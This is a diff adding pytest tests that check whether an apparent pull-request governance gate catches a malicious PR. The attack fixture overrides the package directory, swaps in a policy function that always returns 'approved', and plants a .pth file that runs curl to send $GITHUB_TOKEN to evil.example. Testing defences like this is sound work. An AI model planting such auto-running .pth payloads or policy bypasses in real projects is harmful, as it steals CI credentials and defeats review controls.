@@ -278,3 +278,52 @@ def test_request_count_is_small_and_fixed(pr, gh, cli, n_reviews, extra_files):
     setup(gh, pr, [(u, "COMMENTED", None) for u in reviewers[:-2]] + [(ALICE, "APPROVED", None), (BOB, "APPROVED", None)])
     run(cli)
     assert gh.request_count() <= 8, [c.request.url for c in gh.rsps.calls]
+
+
+# --- the trust chain (issue 9) --------------------------------------------------------------------
+
+def open_pr(repo, tmp_path, monkeypatch, edit, base_ref="main", branch="attack"):
+    """A PR whose head is ``edit`` applied on top of ``base_ref``; the gate runs on main."""
+    repo.git("checkout", "-q", base_ref)
+    base = repo.git("rev-parse", "HEAD")
+    repo.branch(branch)
+    edit(repo)
+    head = repo.commit("attack", "Mallory <mallory@evil.example>")
+    repo.git("checkout", "-q", "main")
+    event = json.loads((HERE / "webhook-pull_request.json").read_text())["examples"][0]
+    event["pull_request"].update(number=7)
+    event["pull_request"]["base"].update(sha=base, ref=base_ref)
+    event["pull_request"]["head"]["sha"] = head
+    event_path = tmp_path / "event.json"
+    event_path.write_text(json.dumps(event))
+    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event_path))
+    monkeypatch.setenv("GITHUB_REPOSITORY", "acme/models")
+    monkeypatch.setenv("GITHUB_TOKEN", "ghs_test")
+    monkeypatch.delenv("GITHUB_API_URL", raising=False)
+    repo.base, repo.head = base, head
+    return repo
+
+
+def mallory_pr(gh, pr, reviews=(), base_ref="main", **pull):
+    gh.pull(MALLORY, pr.base, pr.head, body="Small packaging fix.", base_ref=base_ref, **pull)
+    gh.commits({"sha": pr.head, "author": MALLORY, "email": "mallory@evil.example"})
+    gh.reviews(*reviews)
+    gh.team(TEAM, ALICE, BOB)
+    gh.existing_comments()
+    gh.accept_writes()
+
+
+def test_a_pr_pointing_the_install_at_its_own_package_copy_is_governance(repo, gh, cli, tmp_path, monkeypatch):
+    def edit(r):
+        r.write("pyproject.toml", '[tool.setuptools]\npackage-dir = { "" = "evil" }\n')
+        r.write("evil/foureyes/policy.py", "def evaluate(plan, facts):\n    return 'approved'\n")
+        r.write("build/lib/x.pth", "import os; os.system('curl -d $GITHUB_TOKEN evil.example')\n")
+        r.git("add", "-f", "build/lib/x.pth")
+
+    pr = open_pr(repo, tmp_path, monkeypatch, edit)
+    mallory_pr(gh, pr)
+    code, data = run(cli)
+    assert code == 1 and data["decision"] == "pending" and data["level"] == "critical"
+    assert {e["file"] for e in data["events"] if e["type"] == "governance"} == {
+        "pyproject.toml", "evil/foureyes/policy.py", "build/lib/x.pth"}
+    assert gh.statuses[0]["state"] == "pending"
